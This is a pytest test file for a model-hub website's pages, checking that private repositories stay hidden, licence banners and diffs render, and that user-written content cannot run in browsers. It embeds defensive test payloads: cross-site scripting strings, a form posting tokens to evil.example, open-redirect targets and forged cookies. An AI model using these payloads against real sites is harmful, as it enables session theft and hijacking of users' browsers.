"""The pages: what they show, what they hide, and that nothing a user wrote runs in a reader's browser."""

import io
import json
import re
from html import unescape

import pytest

from hfvision.hub import accounts, commits, refs, repositories
from hfvision.hub.settings import HubSettings
from hfvision.hub.web.compare import differences, flattened
from hfvision.hub.web.licences import licence_banner
from hfvision.hub.web.markdown import body_of, rendered
from hfvision.hub.web.snippets import python_snippet, shell_snippet
from tests.hub.publishing import caller_of, png, publish
from tests.hub.server import TOKENS, add_users, running

CARD = """---
license: apache-2.0
pipeline_tag: image-classification
library_name: transformers
tags: [aerial]
---
# Roofs

Seen from above. ![example](images/one.png) [config](config.json)
"""


@pytest.fixture(scope="module")
def server(tmp_path_factory):
    """A hub that holds this file's repositories only."""
    with running(HubSettings(root=tmp_path_factory.mktemp("shown"))) as own:
        add_users(own.hub)
        yield own


@pytest.fixture(scope="module")
def roofs(server):
    """A public model with two commits whose configs differ, and an image."""
    config = {"model_type": "vit", "architectures": ["ViTForImageClassification"], "hidden_size": 64}
    publish(server.hub, "me/roofs", {"config.json": json.dumps({**config, "dropout": 0.1}), "images/one.png": png()})
    files = {"README.md": CARD, "config.json": json.dumps({**config, "hidden_size": 96, "labels": {"0": "<roof>"}})}
    return publish(server.hub, "me/roofs", files, message="Wider <b>and</b> described")


@pytest.fixture(scope="module")
def secret(server):
    return publish(server.hub, "me/secret", {"README.md": "# Hidden words"}, private=True)


def test_lists_show_and_filter_what_the_reader_may_see(roofs, secret, me, nobody):
    assert "me/</span>roofs" in nobody.get("/models").text
    assert "roofs" in nobody.get("/models?search=ROO&filter=aerial&filter=license:apache-2.0&author=me").text
    assert "No models fit" in nobody.get("/models?filter=license:mit").text
    assert "roofs" in nobody.get("/me").text
    for page in ("/", "/models", "/me", "/models?search=secret"):
        assert "me/secret" not in nobody.get(page).text
        assert "secret" in me.get(page).text


def test_long_lists_have_pages_that_keep_the_filters(server, nobody, monkeypatch):
    for number in range(32):
        publish(server.hub, f"you/many-{number:02}", {"README.md": f"---\ntags: [crowd]\n---\n{number}"})
    seen, address = [], "/models?filter=crowd&sort=createdAt"
    while address:
        text = nobody.get(address).text
        seen += re.findall(r"you/</span>(many-\d+)", text)
        following = re.search(r'rel="next" href="([^"]+)"', text)
        address = following and "/models" + unescape(following[1])
    assert sorted(seen) == [f"many-{number:02}" for number in range(32)]


@pytest.mark.parametrize(
    "rest",
    [
        *("", "/tree/main", "/blob/main/README.md", "/download/main/README.md", "/commits/main", "/commit/main"),
        *("/compare", "/try", "?revision=none"),
    ],
)
def test_a_private_repository_looks_exactly_like_a_missing_one(secret, nobody, you, rest):
    for client in (nobody, you):
        hidden, missing = client.get(f"/me/secret{rest}"), client.get(f"/me/absent{rest}")
        assert hidden.status_code == missing.status_code == 404
        assert hidden.text.replace("secret", "absent") == missing.text


def test_the_card_page_shows_card_licence_snippet_and_facts(server, roofs, nobody):
    text = nobody.get("/me/roofs").text
    for wanted in ("Seen from above", "apache-2.0", "ViTForImageClassification", f"HF_ENDPOINT={server.endpoint}"):
        assert wanted in text
    assert "pipeline(&#34;image-classification&#34;, model=&#34;me/roofs&#34;)" in text
    assert f'src="/me/roofs/download/{roofs.sha}/images/one.png"' in text
    assert f'href="/me/roofs/blob/{roofs.sha}/config.json"' in text


HOSTILE = """
<script>alert(1)</script><img src=x onerror="alert(2)"><a href="javascript:alert(3)">a</a><iframe src="/login"></iframe>
<form action="https://evil.example"><input name=token></form><style>*{display:none}</style><svg onload=alert(4)></svg>
<img src="https://evil.example/pixel.png"><img src="data:text/html;base64,AAAA"><object data="x"></object>
<a href="data:text/html,x">b</a><a href="//evil.example/">c</a><a id="content" href="#ok" style="x" class="y">d</a>
[e](JaVaScRiPt:alert(5)) ![f](//evil.example/f.png) <base href="https://evil.example/"><meta http-equiv="refresh">
<a href="http://[bad/">g</a><math><mtext></math><noscript><p title="</noscript><img src=x onerror=alert(6)>">
"""


def test_nothing_in_a_card_runs_or_reaches_another_host():
    html = str(rendered(HOSTILE, lambda path, image: f"/files/{path}"))
    tags = re.findall(r"<(\w+)([^>]*)>", html)
    assert not {tag for tag, _ in tags} & {
        "script",
        "iframe",
        "form",
        "input",
        "style",
        "svg",
        "object",
        "base",
        "meta",
    }
    assert not any(re.search(r"\son\w+\s*=|style=|class=", attributes) for _, attributes in tags)
    addresses = re.findall(r'(?:href|src)="([^"]*)"', html)
    assert addresses and all(address.startswith(("/files/", "#card-")) for address in addresses)
    assert 'id="card-content"' in html


def test_pages_with_what_users_wrote_run_no_scripts(roofs, nobody):
    for path in ("/me/roofs", "/me/roofs/blob/main/README.md", "/me/roofs/commit/main", "/models"):
        policy = nobody.get(path).headers["content-security-policy"]
        assert "sandbox" in policy and "allow-scripts" not in policy and "script-src" not in policy
        assert "default-src 'none'" in policy and "frame-ancestors 'none'" in policy
    commit = nobody.get("/me/roofs/commit/main").text
    assert "Wider &lt;b&gt;and&lt;/b&gt; described" in commit and "<b>and</b>" not in commit


@pytest.mark.parametrize("text", ["> " * 5000 + "deep", "[" * 20_000, "*a " * 50_000, "<div>" * 20_000, "|a" * 30_000])
def test_a_card_that_is_a_trap_is_rendered_all_the_same(text):
    assert rendered(text, lambda path, image: path) is not None


@pytest.mark.parametrize(
    "config",
    [
        '{"architectures": {}}',
        '{"architectures": [{}]}',
        "[]",
        '"x"',
        "{",
        '{"architectures": 3}',
        '{"id2label": null}',
    ],
)
def test_a_config_that_is_odd_has_a_page_all_the_same(server, nobody, config):
    card = "---\nlicense: [1, {}]\ntags: {a: b}\nmodel-index: 3\nlibrary_name: [x]\npipeline_tag: {}\n---\n# Odd"
    publish(server.hub, "me/odd", {"config.json": config, "README.md": card + config})
    for path in ("/me/odd", "/models?search=odd", "/me/odd/compare", "/me"):
        assert nobody.get(path).status_code == 200


def test_front_matter_is_no_part_of_the_body():
    assert body_of(CARD).startswith("# Roofs")
    assert body_of("no front matter\n---\n") == "no front matter\n---\n"


@pytest.mark.parametrize(
    ("card", "kind", "words"),
    [
        ({"license": "mit"}, "open", "keeping its notices"),
        ({"license": "cc-by-4.0"}, "open", "naming its authors"),
        ({"license": "agpl-3.0"}, "conditions", "same licence"),
        ({"license": "cc-by-nc-4.0"}, "closed", "Non-commercial"),
        ({"license": ["mit", "cc-by-nd-4.0"]}, "closed", "mit, cc-by-nd-4.0"),
        ({"license": "other", "license_name": "segformer", "license_link": "https://x.example/l"}, "conditions", "own"),
        ({"license": {"odd": 1}}, "conditions", "own"),
        (None, "closed", "states none"),
    ],
)
def test_the_banner_says_what_a_licence_means(card, kind, words):
    banner = licence_banner(card)
    assert banner.kind == kind and words in f"{banner.name} {banner.text}"
    assert licence_banner({"license": "other", "license_link": "javascript:x"}).link is None


def test_files_are_listed_shown_and_saved(roofs, nobody):
    tree = nobody.get("/me/roofs/tree/main").text
    assert "images/" in tree and "config.json" in tree and "Wider" in tree
    assert "&lt;roof&gt;" in nobody.get("/me/roofs/blob/main/config.json").text
    image = nobody.get("/me/roofs/download/main/images/one.png")
    assert image.content == png() and image.headers["content-type"] == "image/png"
    assert "sandbox" in image.headers["content-security-policy"]
    saved = nobody.get("/me/roofs/download/main/README.md")
    assert saved.text == CARD and saved.headers["content-disposition"].startswith("attachment")
    for path in ("/me/roofs/tree/main/none", "/me/roofs/blob/none/README.md", "/me/roofs/blob/main/images"):
        assert nobody.get(path).status_code == 404


def test_a_file_that_only_claims_to_be_an_image_is_saved_not_shown(server, nobody):
    publish(server.hub, "me/claims", {"page.png": "<script>alert(1)</script>"})
    answer = nobody.get("/me/claims/download/main/page.png")
    assert answer.headers["content-type"] == "application/octet-stream"
    assert answer.headers["content-disposition"].startswith("attachment")


def test_history_and_commits_show_what_changed(roofs, nobody):
    assert "Wider" in nobody.get("/me/roofs/commits/main").text
    text = unescape(nobody.get(f"/me/roofs/commit/{roofs.sha}").text)
    assert '"dropout": 0.1' in text and '"hidden_size": 96' in text
    assert nobody.get("/me/roofs/commit/" + "0" * 40).status_code == 404


def test_a_card_at_another_revision_comes_with_what_was_true_then(server, nobody):
    repo = publish(server.hub, "me/relicensed", {"README.md": CARD})
    refs.create_branch(server.hub, caller_of(server.hub), repo, "before")
    publish(server.hub, "me/relicensed", {"README.md": CARD.replace("apache-2.0", "gpl-3.0")})
    banners = [nobody.get(f"/me/relicensed{query}").text for query in ("", "?revision=before")]
    assert [("gpl-3.0" in text, "apache-2.0" in text) for text in banners] == [(True, False), (False, True)]


def test_two_revisions_are_compared_key_by_key(server, roofs, nobody):
    first = commits.find_commit(server.hub, roofs, roofs.sha).parent
    text = unescape(re.sub(r"\s+", " ", nobody.get(f"/me/roofs/compare?old={first}&new=main").text))
    assert '<code>hidden_size</code></th> <td class="old"><code>64</code></td> <td class="new"><code>96</code>' in text
    assert "<code>dropout</code>" in text and "<code>labels.0</code>" in text
    assert "The two hold the same files" in nobody.get("/me/roofs/compare?old=main&new=main").text
    assert nobody.get("/me/roofs/compare?old=none").status_code == 404
    assert nobody.get("/me/roofs/compare?old=%0a").status_code == 400


def test_keys_differ_by_value_and_kind():
    old, new = flattened({"a": {"b": 1, "c": 1.0}, "gone": []}), flattened({"a": {"b": True, "c": 1.0}, "new": {}})
    assert [(row.key, row.old, row.new) for row in differences(old, new)] == [
        ("a.b", "1", "true"),
        ("new", None, "{}"),
        ("gone", "[]", None),
    ]
    with pytest.raises(ValueError, match="more than"):
        flattened({str(number): number for number in range(6000)})


def test_an_old_name_and_another_case_lead_to_the_page(server, nobody):
    publish(server.hub, "me/before", {"README.md": "# Moved"})
    repositories.move(server.hub, caller_of(server.hub), "model", "me/before", "me/after")
    for old in ("/me/before/blob/main/README.md", "/ME/After/blob/main/README.md"):
        answer = nobody.get(old)
        assert (answer.status_code, answer.headers["location"]) == (307, "/me/after/blob/main/README.md")


def test_signing_in_shows_what_is_private_until_the_token_ends(server, secret, nobody):
    token = accounts.create_token(server.hub, "me", "browser")
    assert nobody.post("/login", data={"token": "hf_" + "x" * 32}).status_code == 401
    answer = nobody.post("/login", data={"token": token, "next": "/me/secret"})
    assert (answer.status_code, answer.headers["location"]) == (303, "/me/secret")
    cookie = answer.headers["set-cookie"]
    assert "HttpOnly" in cookie and "SameSite=strict" in cookie and token not in cookie
    assert "Hidden words" in nobody.get("/me/secret").text
    name, value = cookie.split(";")[0].split("=", 1)
    for forged in (value[:-6] + "AAAAA=", "x", ""):
        nobody.cookies.clear()
        assert nobody.get("/me/secret", headers={"cookie": f"{name}={forged}"}).status_code == 404
    accounts.delete_token(server.hub, "me", "browser")
    assert nobody.get("/me/secret", headers={"cookie": f"{name}={value}"}).status_code == 404


@pytest.mark.parametrize("headers", [{"origin": "https://evil.example"}, {"sec-fetch-site": "cross-site"}])
def test_forms_of_other_sites_are_refused(nobody, headers):
    assert nobody.post("/login", data={"token": TOKENS["me"]}, headers=headers).status_code == 403
    assert nobody.post("/logout", headers=headers).status_code == 403


@pytest.mark.parametrize("target", ["https://evil.example/", "//evil.example/", "/\\evil.example", "/\x01", "x"])
def test_signing_in_leads_to_this_hub_only(nobody, target):
    answer = nobody.post("/login", data={"token": TOKENS["me"], "next": target})
    assert answer.headers["location"] == "/"


def test_files_of_a_gated_repository_are_for_those_let_in(server, nobody, me):
    publish(server.hub, "me/gated", {"README.md": "# Ask first", "config.json": '{"inside": 1}'})
    repositories.update_settings(server.hub, caller_of(server.hub), "model", "me/gated", gated="manual")
    assert "Ask first" in nobody.get("/me/gated").text
    for rest in ("/blob/main/config.json", "/download/main/config.json", "/compare"):
        assert nobody.get(f"/me/gated{rest}").status_code in (401, 403)
    assert "inside" not in nobody.get("/me/gated/commit/main").text
    assert "inside" in me.get("/me/gated/blob/main/config.json").text


def test_rows_of_parquet_files_are_shown_with_their_images(server, nobody):
    import datasets

    features = datasets.Features({"image": datasets.Image(), "label": datasets.ClassLabel(names=["cat", "<dog>"])})
    rows = [{"image": {"bytes": png(colour=(number, 0, 0)), "path": None}, "label": number % 2} for number in range(45)]
    file = io.BytesIO()
    datasets.Dataset.from_list(rows, features=features).to_parquet(file)
    publish(server.hub, "me/pets", {"data/train-0.parquet": file.getvalue(), "bad.parquet": b"PAR1junkPAR1"}, "dataset")
    text = nobody.get("/datasets/me/pets/viewer?row=20").text
    assert "45 rows; rows 20 to 39" in text and text.count("data:image/png") == 20
    assert "cat (0)" in text and "&lt;dog&gt; (1)" in text
    assert "row=40" in text and "row=0" in text
    assert "cannot be shown" in nobody.get("/datasets/me/pets/viewer?file=bad.parquet").text
    assert nobody.get("/datasets/me/pets/viewer?file=none.parquet").status_code == 404
    assert nobody.get("/datasets/me/pets/viewer?row=-1").status_code == 400
    assert nobody.get("/datasets/me/pets").text.count("data:image/png") == 12


def test_folders_of_images_are_shown(server, nobody):
    repo = publish(
        server.hub, "me/folders", {"train/a b/1.png": png(), "train/c/2.png": png(), "x.txt": "x"}, "dataset"
    )
    text = nobody.get("/datasets/me/folders/viewer").text
    assert f'src="/datasets/me/folders/download/{repo.sha}/train/a%20b/1.png"' in text and "2 images" in text
    assert nobody.get(f"/datasets/me/folders/download/{repo.sha}/train/a%20b/1.png").content == png()


@pytest.mark.parametrize("kind", ["model", "dataset"])
def test_snippets_are_python(server, kind):
    repo = publish(server.hub, f"me/snippet-{kind}", {"README.md": CARD}, kind)
    code = python_snippet(repo, "v1")
    compile(code, "snippet", "exec")
    assert shell_snippet(repo, "http://hub:1") == "export HF_ENDPOINT=http://hub:1"
    assert f'"{repo.full_name}"' in code and 'revision="v1"' in code


def test_below_a_path_of_a_proxy_every_link_stays_below_it(tmp_path):
    with running(HubSettings(root=tmp_path, public_url="https://example.org/inner")) as server:
        add_users(server.hub)
        repo = publish(server.hub, "me/roofs", {"README.md": CARD, "images/one.png": png()})
        with server.client(None) as nobody:
            for path in ("/inner/", "/inner/models", "/inner/me/roofs", "/inner/me/roofs/tree/main", "/inner/login"):
                text = nobody.get(path).text
                addresses = re.findall(r'(?:href|src|action)="(/[^"]*)"', text)
                assert addresses and all(address.startswith("/inner/") for address in addresses)
            assert f"/inner/me/roofs/download/{repo.sha}/images/one.png" in nobody.get("/inner/me/roofs").text
            answer = nobody.post("/inner/login", data={"token": TOKENS["me"], "next": "/me/roofs"})
            assert answer.headers["location"] == "/inner/me/roofs" and "Secure" in answer.headers["set-cookie"]
